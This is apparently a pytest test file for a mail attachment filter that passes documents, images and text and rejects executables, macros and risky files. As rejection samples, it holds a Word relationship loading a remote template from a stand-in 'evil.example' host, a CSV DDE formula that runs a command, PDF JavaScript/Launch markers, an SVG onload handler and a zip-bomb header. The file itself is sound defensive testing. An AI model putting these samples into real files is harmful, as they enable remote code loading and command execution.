"""Documents, pictures and plain text are passed on; whatever can run, hides or lies is not."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.mail.file_kinds import KINDS, kind_of
from tests.unit.office_files import OLE, PDF, PNG, docx, odt, packed

RELS = '<Relationship Type="attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("outline.pdf", PDF, "application/pdf"),
        ("OUTLINE.PDF", PDF, "application/pdf"),
        ("photo.png", PNG, "image/png"),
        ("photo.jpg", b"\xff\xd8\xff\xe0" + bytes(20), "image/jpeg"),
        ("photo.jpeg", b"\xff\xd8\xff\xe1" + bytes(20), "image/jpeg"),
        ("photo.heic", b"\x00\x00\x00\x18ftypheic" + bytes(20), "image/heic"),
        ("a.gif", b"GIF89a" + bytes(20), "image/gif"),
        ("a.webp", b"RIFF\x00\x00\x00\x00WEBPVP8 ", "image/webp"),
        ("notes.txt", "Grüße\r\n\tzwei".encode(), "text/plain"),
        ("notes.txt", "Grüße".encode("windows-1252"), "text/plain"),
        ("notes.md", b"# Plan\n", "text/plain"),
        ("plan.docx", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("plan.odt", odt(), "application/vnd.oasis.opendocument.text"),
    ],
)
def test_what_its_name_says_is_passed_on(name: str, content: bytes, kind: str) -> None:
    assert (kind_of(name, content), kind in KINDS) == (kind, True)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("setup.exe", b"MZ" + bytes(60)),
        ("outline.pdf.exe", PDF),
        ("outline.pdf", b"MZ" + bytes(60)),
        ("run.sh", b"#!/bin/sh\n"),
        ("page.html", b"<html></html>"),
        ("picture.svg", b"<svg onload='x()'/>"),
        ("all.zip", packed(a="b")),
        ("plan.docm", docx(word__vbaProject__bin=b"x")),
        ("plan.doc", OLE),
        ("plan.docx", OLE),
        ("plan.docx", packed(a="b")),
        ("plan.xlsx", docx()),
        ("notes.txt", b"MZ\x00\x01"),
        ("notes.txt", "utf-16".encode("utf-16")),
        ("notes.txt", b""),
        ("noending", PDF),
        ("mail.eml", b"From: x\n\ny"),
        ("sheet.csv", b"=cmd|'/c calc'!A0"),
        ("locked.pdf", PDF.replace(b"/Root", b"/Encrypt 2 0 R /Root")),
        ("acting.pdf", PDF.replace(b"/Type", b"/OpenAction << /S /JavaScript >> /Type")),
        ("starting.pdf", PDF.replace(b"/Type", b"/S /Launch /Type")),
        ("holding.pdf", PDF.replace(b"/Type", b"/EmbeddedFiles 3 0 R /Type")),
    ],
)
def test_what_can_run_hides_or_is_unknown_is_not(name: str, content: bytes) -> None:
    assert kind_of(name, content) == ""


@pytest.mark.parametrize(
    "content",
    [
        docx(**{"word__vbaProject.bin": b"x"}),
        docx(**{"word__embeddings__oleObject1.bin": b"x"}),
        docx(**{"word__activeX__activeX1.xml": "x"}),
        docx(**{"[Content_Types].xml": "<x ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>"}),
        docx(**{"word___rels__settings.xml.rels": RELS}),
        b"MZ" + docx(),
    ],
)
def test_a_document_with_programs_in_it_or_behind_it_is_not(content: bytes) -> None:
    assert kind_of("plan.docx", content) == ""


@pytest.mark.parametrize("content", [odt("<encryption-data/>"), odt(**{"Basic__Standard__Module1.xml": "x"})])
def test_an_open_document_that_is_locked_or_has_macros_is_not(content: bytes) -> None:
    assert kind_of("plan.odt", content) == ""


def test_an_encrypted_entry_keeps_an_archive_from_passing() -> None:
    whole = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        whole[whole.rindex(mark) + place] |= 1
    assert kind_of("plan.docx", bytes(whole)) == ""


def test_what_would_fill_a_disk_when_it_is_unpacked_is_not_passed_on() -> None:
    whole = docx(**{"word__media__bomb.png": b"x"})
    place = whole.rindex(b"PK\x01\x02") + 24
    bomb = whole[:place] + (101 * 1024 * 1024).to_bytes(4, "little") + whole[place + 4 :]
    assert (kind_of("a.docx", whole) != "", kind_of("a.docx", bomb)) == (True, "")


@given(st.sampled_from(["a.docx", "a.odt", "a.pdf", "a.png", "a.txt"]), st.binary(max_size=300))
def test_no_content_makes_it_fail(name: str, content: bytes) -> None:
    assert kind_of(name, b"PK\x03\x04" + content) in {*KINDS, ""}


@given(st.integers(0, 400), st.binary(min_size=1, max_size=8))
def test_a_damaged_document_is_passed_on_or_not_and_never_fails(place: int, damage: bytes) -> None:
    whole = bytearray(docx())
    whole[place : place + len(damage)] = damage
    assert kind_of("a.docx", bytes(whole)) in {*KINDS, ""}
